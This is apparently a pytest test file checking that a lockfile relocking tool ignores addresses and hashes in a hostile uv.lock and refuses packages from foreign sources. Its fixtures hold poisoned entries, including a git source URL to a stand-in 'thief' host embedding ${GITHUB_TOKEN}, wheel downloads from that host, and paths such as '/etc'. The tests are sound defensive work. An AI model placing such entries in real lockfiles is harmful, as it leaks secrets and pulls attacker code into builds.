"""A uv.lock of somebody's: names and versions are preferred, and no address in it is asked."""

import pytest

from modelyard.lockfiles import relock
from modelyard.reasons import NoticeReason
from tests.tool.lockfiles.hostile import Scene, project

LOCK = """\
version = 1
requires-python = ">=3.11"

[[package]]
name = "one"
version = "1.0"
source = {{ {source} }}
sdist = {{ url = "http://{thief}/one-1.0.tar.gz", hash = "sha256:00" }}
wheels = [{{ url = "http://{thief}/one-1.0-py3-none-any.whl", hash = "sha256:{zeros}" }}]

[[package]]
name = "repo"
version = "1"
source = {{ virtual = "." }}
dependencies = [{{ name = "one" }}]

[package.metadata]
requires-dist = [{{ name = "one", specifier = ">=1" }}]
"""


def text(scene: Scene, source: str) -> bytes:
    thief = scene.thief.address
    source = source.replace("THIEF", thief)
    return LOCK.format(source=source, thief=thief, zeros="0" * 64).encode()


@pytest.mark.parametrize("dependencies", [("one>=1",), ("one>=1", "two")])
def test_an_address_in_it_is_not_asked_and_a_hash_is_not_believed(
    scene: Scene, dependencies: tuple[str, ...]
) -> None:
    old = text(scene, 'registry = "http://THIEF/simple"')
    made = relock.compile("uv.lock", project(*dependencies).encode(), old)
    assert made.content is not None, made
    said = made.content.decode()
    assert scene.thief.requests == []
    assert 'name = "one"\nversion = "1.0"' in said
    assert scene.thief.address not in said and "0" * 64 not in said and "invalid" not in said


@pytest.mark.parametrize(
    "source",
    [
        'git = "http://THIEF/${GITHUB_TOKEN}?rev=1#0000000000000000000000000000000000000000"',
        'url = "http://THIEF/one-1.0-py3-none-any.whl"',
        'directory = "/etc"',
        'editable = "../x"',
        'virtual = "/"',
        'path = "one-1.0.tar.gz"',
        'registry = "x", path = "y.whl"',
    ],
)
def test_a_package_from_elsewhere_is_refused_by_its_name(scene: Scene, source: str) -> None:
    made = relock.compile("uv.lock", project("one>=1").encode(), text(scene, source))
    assert (made.reason, made.about) == (NoticeReason.LOCK_REFUSED, "'one' in uv.lock")
    assert scene.thief.requests == [] == scene.index.requests


def test_versions_by_environment_stay(scene: Scene) -> None:
    forks = ("sys_platform == 'win32'", "sys_platform != 'win32'")
    packages = "".join(
        f'[[package]]\nname = "one"\nversion = "{version}"\nsource = {{ registry = "x" }}\n'
        f'resolution-markers = ["{fork}"]\n'
        for fork, version in zip(forks, ("1.0", "1.1"), strict=True)
    )
    old = f'version = 1\nresolution-markers = ["{forks[0]}", "{forks[1]}"]\n{packages}'
    asks = zip(("one==1.0", "one>=1.0"), forks, strict=True)
    asked = project(*(f"{one} ; {fork}".replace("'", '"') for one, fork in asks))
    made = relock.compile("uv.lock", asked.encode(), old.encode())
    assert made.content is not None
    assert all(b'version = "%s"' % one in made.content for one in (b"1.0", b"1.1"))


@pytest.mark.parametrize("package", [True, False])
def test_the_project_is_in_it_as_it_was(scene: Scene, package: bool) -> None:
    more = '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n' if package else ""
    made = relock.compile("uv.lock", project("one", more=more).encode(), b"version = 1\n")
    assert made.content is not None
    kind = b"editable" if package else b"virtual"
    assert b'source = { %s = "." }' % kind in made.content
    assert not any("evil" in one for one in scene.index.requests)


@pytest.mark.parametrize(
    "bad", [b"[", b"\xff", b"package = 1", b"x = " + b"[" * 9000, b"#" * 6_000_000]
)
def test_one_that_cannot_be_read_is_told(bad: bytes) -> None:
    made = relock.compile("uv.lock", project("one").encode(), bad)
    assert made.reason is NoticeReason.LOCK_UNREADABLE
